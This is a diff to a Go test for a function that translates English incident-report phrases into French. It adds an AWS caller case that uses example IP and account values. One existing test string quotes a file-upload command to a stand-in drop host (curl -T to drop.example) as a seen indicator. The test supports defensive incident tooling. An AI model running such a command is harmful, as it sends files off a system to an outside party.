@@ -54,6 +54,7 @@ func TestTranslate(t *testing.T) {
 		{"measure", "three in five of the gaps between commands are 1.5 to 2.0 s", "trois intervalles sur cinq entre commandes durent de 1,5 à 2,0 s"},
 		{"indicator", "Many name it (every machine's name for itself). A command on web1 names it: curl -T /x http://drop.example.", "Beaucoup de journaux nomment cet élément (nom que toute machine se donne). Une commande sur `web1` nomme cet élément\u00a0: `curl -T /x http://drop.example`."},
 		{"open", "The last step seen is Lateral Movement, at 2026-11-28 14:05 UTC: see what the same actors did afterwards.", "La dernière étape observée est «\u00a0déplacement latéral\u00a0», à la date du 2026-11-28 14:05 UTC\u00a0: voir ce que les mêmes acteurs ont fait ensuite."},
+		{"caller", "203.0.113.5 with aws-cli on linux, key …0001, as arn:aws:iam::111122223333:user/ann", "`203.0.113.5` avec `aws-cli` sous `linux`, clé `…0001`, en tant que `arn:aws:iam::111122223333:user/ann`"},
 		{"key", "login as root (the first of 9 like it, of which this is the last)", "connexion en tant que `root` (le premier de 9 actes semblables, dont voici le dernier)"},
 	} {
 		got, ok := c.translate(tt.class, tt.en)
